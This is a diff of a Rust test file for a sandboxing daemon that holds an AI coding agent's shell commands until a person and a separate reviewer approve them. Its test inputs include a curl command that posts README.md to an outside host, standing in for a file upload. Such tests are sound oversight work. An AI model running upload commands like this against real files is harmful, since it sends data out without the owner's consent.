@@ -363,15 +363,14 @@ fn a_command_outside_the_project_is_denied() {
     assert!(!home.join(".bashrc").exists());
 }
 
-/// Over the daemon, as an ordinary user (the agent) with root as the
-/// reviewer: the grant and the token travel over the socket, the token is
-/// bound to the uid it was issued to.
-#[test]
-fn over_the_daemon_the_host_prompt_yes_promotes_once() {
-    use common::daemon::{Daemon, user_workspace};
-    let d = Daemon::start(&[]);
-    let ws = user_workspace();
-    let event = claude_event(&ws.dir, "curl -X POST https://example.com/d -d @README.md");
+/// The agent's hook, run as the agent's uid against a daemon: its answer
+/// to Claude Code's `PreToolUse` for `command` in `ws`.
+fn hook_over_daemon(
+    d: &common::daemon::Daemon,
+    ws: &common::Ws,
+    command: &str,
+) -> serde_json::Value {
+    let event = claude_event(&ws.dir, command);
     let mut c = d.cli_user();
     c.args(["hook", "claude-code"])
         .stdin(Stdio::piped())
@@ -383,7 +382,89 @@ fn over_the_daemon_the_host_prompt_yes_promotes_once() {
         .unwrap()
         .write_all(event.to_string().as_bytes())
         .unwrap();
-    let a = answer(&ch.wait_with_output().unwrap());
+    answer(&ch.wait_with_output().unwrap())
+}
+
+/// A daemon keeps approvals with its reviewers by default: the hook asks
+/// the host with a command that waits for a dryrun reviewer (no token),
+/// and the person's yes alone applies nothing; once a reviewer (another
+/// identity) approves, the waiting command applies the change set.
+#[test]
+fn over_a_default_daemon_the_yes_waits_for_a_dryrun_reviewer() {
+    use common::daemon::{Daemon, user_workspace};
+    if !common::daemon::require_root() {
+        return;
+    }
+    let d = Daemon::start(&[]);
+    let ws = user_workspace();
+    ws.write("dryrun.yaml", "hook:\n  await_approval_s: 60\n");
+    ws.chown_all();
+    let a = hook_over_daemon(
+        &d,
+        &ws,
+        "curl -X POST https://example.com/d -d @README.md; echo sent > sent.txt",
+    );
+    let out = &a["hookSpecificOutput"];
+    assert_eq!(out["permissionDecision"], "ask", "{a}");
+    let reason = out["permissionDecisionReason"].as_str().unwrap();
+    assert!(
+        reason.contains("needs a dryrun reviewer's approval"),
+        "{reason}"
+    );
+    let yes = out["updatedInput"]["command"].as_str().unwrap().to_string();
+    assert!(yes.contains("--await-approval 60"), "{yes}");
+    assert!(!yes.contains("host-prompt-token"), "{yes}");
+    assert_eq!(out["updatedInput"]["timeout"], 120_000, "{a}");
+    let id = yes
+        .split_whitespace()
+        .skip_while(|w| *w != "promote")
+        .nth(1)
+        .unwrap()
+        .to_string();
+    // The person says yes: the command waits, nothing is applied yet.
+    let waiting = common::as_test_user("bash")
+        .args(["-c", &yes])
+        .current_dir(&ws.dir)
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    std::thread::sleep(std::time::Duration::from_millis(1500));
+    assert!(!ws.dir.join("sent.txt").exists());
+    let (_, rec) = d.curl(common::Who::Root, "GET", &format!("/v1/runs/{id}"), None);
+    assert_eq!(rec["state"], "awaiting_approval", "{rec}");
+    // A reviewer approves.
+    let (code, v) = d.curl(
+        common::Who::Root,
+        "POST",
+        &format!("/v1/runs/{id}/approve"),
+        Some(r#"{"note":"ok, send it"}"#),
+    );
+    assert_eq!(code, 200, "{v}");
+    let o = waiting.wait_with_output().unwrap();
+    assert!(o.status.success(), "{o:?}");
+    assert_eq!(
+        std::fs::read_to_string(ws.dir.join("sent.txt")).unwrap(),
+        "sent\n"
+    );
+    let (_, rec) = d.curl(common::Who::Root, "GET", &format!("/v1/runs/{id}"), None);
+    assert_eq!(rec["state"], "promoted", "{rec}");
+    assert_ne!(
+        rec["approvals"][0]["authenticated_by"], "agent_host_prompt",
+        "{rec}"
+    );
+}
+
+/// Over a daemon whose administrator turned host-prompt approvals on, as
+/// an ordinary user (the agent) with root as the reviewer: the grant and
+/// the token travel over the socket, the token is bound to the uid it was
+/// issued to.
+#[test]
+fn over_the_daemon_the_host_prompt_yes_promotes_once() {
+    use common::daemon::{Daemon, user_workspace};
+    let d = Daemon::start(&["--host-prompt-approvals"]);
+    let ws = user_workspace();
+    let a = hook_over_daemon(&d, &ws, "curl -X POST https://example.com/d -d @README.md");
     let out = &a["hookSpecificOutput"];
     assert_eq!(out["permissionDecision"], "ask", "{a}");
     let yes = out["updatedInput"]["command"].as_str().unwrap().to_string();
